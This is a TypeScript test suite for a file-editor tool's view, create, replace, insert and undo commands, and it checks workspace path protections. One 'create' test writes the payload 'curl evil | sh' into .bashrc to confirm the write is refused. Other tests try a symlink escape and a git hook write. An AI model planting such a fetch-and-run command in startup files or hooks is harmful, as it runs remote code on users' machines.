import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ToolError } from '../runtime/contract/errors.js';
import type { ToolContext, ToolResult } from '../runtime/contract/tool.js';
import editor from '../plugins/files/str_replace_editor.js';
import { createTestToolContext } from './support/tool-context.js';

type EditorCall = Parameters<typeof editor.execute>[0];

let harness: ReturnType<typeof createTestToolContext>;
let context: ToolContext;
let workspace: string;

beforeEach(() => {
  harness = createTestToolContext();
  context = harness.context;
  workspace = context.workspace;
});

afterEach(async () => {
  await harness.dispose();
  rmSync(harness.root, { recursive: true, force: true });
});

async function run(call: EditorCall, callContext: ToolContext = context): Promise<string> {
  const result = await editor.execute(call, callContext);
  return typeof result === 'string' ? result : result.content;
}

async function failure(call: EditorCall): Promise<ToolError> {
  try {
    await editor.execute(call, context);
  } catch (error) {
    expect(error).toBeInstanceOf(ToolError);
    return error as ToolError;
  }
  throw new Error(`expected ${call.command} on ${call.path} to fail`);
}

function read(path: string): string {
  return readFileSync(join(workspace, path), 'utf8');
}

describe('view', () => {
  it('numbers lines like cat -n, without an extra line for the final newline', async () => {
    writeFileSync(join(workspace, 'notes.txt'), 'alpha\nbeta\ngamma\n');
    expect(await run({ command: 'view', path: 'notes.txt' })).toBe(
      "Here's the result of running `cat -n` on notes.txt:\n     1\talpha\n     2\tbeta\n     3\tgamma\n",
    );
  });

  it('shows a view_range, with -1 meaning the last line, and rejects ranges outside the file', async () => {
    writeFileSync(join(workspace, 'notes.txt'), 'one\ntwo\nthree\nfour\nfive\n');
    expect(await run({ command: 'view', path: 'notes.txt', view_range: [2, 3] })).toContain('     2\ttwo\n     3\tthree\n');
    const toEnd = await run({ command: 'view', path: 'notes.txt', view_range: [4, -1] });
    expect(toEnd).toContain('     4\tfour\n     5\tfive\n');
    expect(toEnd).not.toContain('three');
    expect((await failure({ command: 'view', path: 'notes.txt', view_range: [9, 10] })).message).toContain('1 to 5');
    expect((await failure({ command: 'view', path: 'notes.txt', view_range: [3, 2] })).code).toBe('invalid_parameter');
  });

  it('lists a directory two levels deep, skipping hidden entries', async () => {
    mkdirSync(join(workspace, 'src', 'lib', 'deep'), { recursive: true });
    mkdirSync(join(workspace, '.hidden'));
    writeFileSync(join(workspace, 'src', 'lib', 'deep', 'too-deep.ts'), '');
    writeFileSync(join(workspace, 'src', 'index.ts'), '');
    writeFileSync(join(workspace, 'src', '.env'), '');
    writeFileSync(join(workspace, 'README.md'), '');
    const listing = await run({ command: 'view', path: '.' });
    expect(listing.split('\n').slice(1)).toEqual(['README.md', 'src/', 'src/index.ts', 'src/lib/']);
  });

  it('accepts absolute paths inside the workspace and refuses ones outside', async () => {
    writeFileSync(join(workspace, 'inside.txt'), 'inside\n');
    expect(await run({ command: 'view', path: join(workspace, 'inside.txt') })).toContain('1\tinside');
    expect((await failure({ command: 'view', path: join(harness.root, 'run') })).code).toBe('path_outside_workspace');
  });

  it('clips long files at a line boundary and says which view_range continues', async () => {
    const lines = Array.from({ length: 3000 }, (_, index) => `line number ${index + 1}`);
    writeFileSync(join(workspace, 'long.txt'), `${lines.join('\n')}\n`);
    const output = await run({ command: 'view', path: 'long.txt' });
    expect(output.length).toBeLessThanOrEqual(16_000);
    const match = /Output clipped at line (\d+) of 3000.*view_range \[(\d+), -1\]/.exec(output);
    expect(match).not.toBeNull();
    const lastShown = Number(match?.[1]);
    expect(Number(match?.[2])).toBe(lastShown + 1);
    expect(output).toContain(`\tline number ${lastShown}\n`);
    expect(output).not.toContain(`\tline number ${lastShown + 1}\n`);
  });

  it('shortens a single line too long to show whole', async () => {
    writeFileSync(join(workspace, 'minified.js'), `${'a'.repeat(40_000)}\nsecond\n`);
    const output = await run({ command: 'view', path: 'minified.js' });
    expect(output.length).toBeLessThanOrEqual(16_000);
    expect(output).toContain('line 1 is too long to show whole');
    expect(output).toContain('view_range [2, -1]');
  });

  it('uses settings.max_output as the clipping limit', async () => {
    writeFileSync(join(workspace, 'long.txt'), 'x'.repeat(50).concat('\n').repeat(100));
    const small = { ...context, settings: { max_output: 500 } };
    const output = await run({ command: 'view', path: 'long.txt' }, small);
    expect(output.length).toBeLessThanOrEqual(500);
    expect(output).toContain('Output clipped');
  });

  it('refuses binary files and reports missing paths', async () => {
    writeFileSync(join(workspace, 'image.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x01]));
    expect((await failure({ command: 'view', path: 'image.png' })).code).toBe('binary_file');
    expect((await failure({ command: 'view', path: 'absent.txt' })).code).toBe('file_not_found');
  });
});

describe('create', () => {
  it('creates a file and its parent folders, and reports it as produced', async () => {
    const result = (await editor.execute(
      { command: 'create', path: 'site/pages/index.html', file_text: '<h1>Hi</h1>\n' },
      context,
    )) as ToolResult;
    expect(result.content).toBe('File created successfully at: site/pages/index.html');
    expect(result.files).toEqual(['site/pages/index.html']);
    expect(read('site/pages/index.html')).toBe('<h1>Hi</h1>\n');
  });

  it('refuses to overwrite an existing file', async () => {
    writeFileSync(join(workspace, 'keep.txt'), 'original\n');
    const error = await failure({ command: 'create', path: 'keep.txt', file_text: 'replaced\n' });
    expect(error.code).toBe('file_exists');
    expect(read('keep.txt')).toBe('original\n');
  });

  it('requires file_text', async () => {
    expect((await failure({ command: 'create', path: 'empty.txt' })).message).toContain('file_text');
  });

  it('refuses protected files and folders that lead outside', async () => {
    symlinkSync(harness.root, join(workspace, 'exit'));
    expect((await failure({ command: 'create', path: 'exit/escaped.txt', file_text: 'x' })).code).toBe(
      'path_outside_workspace',
    );
    expect(existsSync(join(harness.root, 'escaped.txt'))).toBe(false);
    expect((await failure({ command: 'create', path: '.bashrc', file_text: 'curl evil | sh' })).code).toBe(
      'path_protected',
    );
    expect((await failure({ command: 'create', path: '.git/hooks/pre-commit', file_text: 'x' })).code).toBe(
      'path_protected',
    );
    expect(existsSync(join(workspace, '.git'))).toBe(false);
  });
});

describe('str_replace', () => {
  it('replaces a unique occurrence and shows a numbered snippet around it', async () => {
    const lines = Array.from({ length: 20 }, (_, index) => `row ${index + 1}`);
    writeFileSync(join(workspace, 'table.txt'), `${lines.join('\n')}\n`);
    const output = await run({ command: 'str_replace', path: 'table.txt', old_str: 'row 10\n', new_str: 'ROW TEN\nROW TEN B\n' });
    expect(read('table.txt')).toContain('row 9\nROW TEN\nROW TEN B\nrow 11\n');
    expect(output).toContain('The file table.txt has been edited.');
    expect(output).toContain('     6\trow 6\n');
    expect(output).toContain('    10\tROW TEN\n    11\tROW TEN B\n');
    expect(output).not.toContain('\trow 5\n');
    expect(output).not.toContain('\trow 16\n');
  });

  it('says how many times old_str occurs when it is not unique, and changes nothing', async () => {
    writeFileSync(join(workspace, 'repeat.txt'), 'x = 1\ny = 2\nx = 1\nx = 1\n');
    const error = await failure({ command: 'str_replace', path: 'repeat.txt', old_str: 'x = 1', new_str: 'x = 3' });
    expect(error.code).toBe('text_not_unique');
    expect(error.message).toContain('occurs 3 times');
    expect(error.message).toContain('lines 1, 3, 4');
    expect(read('repeat.txt')).toBe('x = 1\ny = 2\nx = 1\nx = 1\n');
  });

  it('reports text that does not appear verbatim', async () => {
    writeFileSync(join(workspace, 'code.py'), 'def main():\n    return 1\n');
    const error = await failure({ command: 'str_replace', path: 'code.py', old_str: 'def main():\n  return 1' });
    expect(error.code).toBe('text_not_found');
  });

  it('deletes old_str when new_str is omitted', async () => {
    writeFileSync(join(workspace, 'code.py'), 'keep\nremove me\nkeep too\n');
    await run({ command: 'str_replace', path: 'code.py', old_str: 'remove me\n' });
    expect(read('code.py')).toBe('keep\nkeep too\n');
  });

  it('keeps CRLF line endings when the model sends LF text', async () => {
    writeFileSync(join(workspace, 'windows.txt'), 'first\r\nsecond\r\nthird\r\n');
    await run({ command: 'str_replace', path: 'windows.txt', old_str: 'first\nsecond', new_str: 'first\nSECOND\nextra' });
    expect(read('windows.txt')).toBe('first\r\nSECOND\r\nextra\r\nthird\r\n');
  });

  it('edits through a link inside the workspace by editing its target', async () => {
    writeFileSync(join(workspace, 'target.txt'), 'before\n');
    symlinkSync(join(workspace, 'target.txt'), join(workspace, 'alias.txt'));
    await run({ command: 'str_replace', path: 'alias.txt', old_str: 'before', new_str: 'after' });
    expect(read('target.txt')).toBe('after\n');
  });
});

describe('insert', () => {
  it('inserts after a line, at the top with 0, and at the end', async () => {
    writeFileSync(join(workspace, 'list.txt'), 'b\nc\n');
    await run({ command: 'insert', path: 'list.txt', insert_line: 0, new_str: 'a' });
    await run({ command: 'insert', path: 'list.txt', insert_line: 2, new_str: 'b2\nb3\n' });
    const output = await run({ command: 'insert', path: 'list.txt', insert_line: 5, new_str: 'd' });
    expect(read('list.txt')).toBe('a\nb\nb2\nb3\nc\nd\n');
    expect(output).toContain('     6\td\n');
  });

  it('rejects a line past the end and requires new_str', async () => {
    writeFileSync(join(workspace, 'list.txt'), 'only\n');
    const error = await failure({ command: 'insert', path: 'list.txt', insert_line: 5, new_str: 'x' });
    expect(error.message).toContain('from 0 to 1');
    expect((await failure({ command: 'insert', path: 'list.txt', insert_line: 1 })).code).toBe('missing_parameter');
  });
});

describe('undo_edit', () => {
  it('walks back a chain of edits one at a time, then removes a created file', async () => {
    await run({ command: 'create', path: 'story.md', file_text: 'once\n' });
    await run({ command: 'str_replace', path: 'story.md', old_str: 'once', new_str: 'once upon' });
    await run({ command: 'insert', path: 'story.md', insert_line: 1, new_str: 'a time' });
    expect(read('story.md')).toBe('once upon\na time\n');

    expect(await run({ command: 'undo_edit', path: 'story.md' })).toContain('     1\tonce upon\n');
    expect(read('story.md')).toBe('once upon\n');
    await run({ command: 'undo_edit', path: 'story.md' });
    expect(read('story.md')).toBe('once\n');
    expect(await run({ command: 'undo_edit', path: 'story.md' })).toContain('the file was removed');
    expect(existsSync(join(workspace, 'story.md'))).toBe(false);
    expect((await failure({ command: 'undo_edit', path: 'story.md' })).code).toBe('nothing_to_undo');
  });

  it('keeps a separate history per file and restores exact bytes', async () => {
    writeFileSync(join(workspace, 'one.txt'), 'one\r\n');
    writeFileSync(join(workspace, 'two.txt'), 'two\n');
    await run({ command: 'str_replace', path: 'one.txt', old_str: 'one', new_str: 'ONE' });
    await run({ command: 'str_replace', path: 'two.txt', old_str: 'two', new_str: 'TWO' });
    await run({ command: 'undo_edit', path: 'one.txt' });
    expect(read('one.txt')).toBe('one\r\n');
    expect(read('two.txt')).toBe('TWO\n');
  });

  it('forgets history when the run ends', async () => {
    writeFileSync(join(workspace, 'file.txt'), 'a\n');
    await run({ command: 'str_replace', path: 'file.txt', old_str: 'a', new_str: 'b' });
    await harness.dispose();
    expect((await failure({ command: 'undo_edit', path: 'file.txt' })).code).toBe('nothing_to_undo');
  });
});

describe('concurrent edits of one file', () => {
  it('applies every edit, one after another', async () => {
    const lines = Array.from({ length: 30 }, (_, index) => `item ${index}`);
    writeFileSync(join(workspace, 'items.txt'), `${lines.join('\n')}\n`);
    await Promise.all(
      lines.map((line) =>
        run({ command: 'str_replace', path: 'items.txt', old_str: `${line}\n`, new_str: `${line} done\n` }),
      ),
    );
    expect(read('items.txt')).toBe(`${lines.map((line) => `${line} done`).join('\n')}\n`);
    for (let count = 0; count < lines.length; count += 1) await run({ command: 'undo_edit', path: 'items.txt' });
    expect(read('items.txt')).toBe(`${lines.join('\n')}\n`);
  });
});
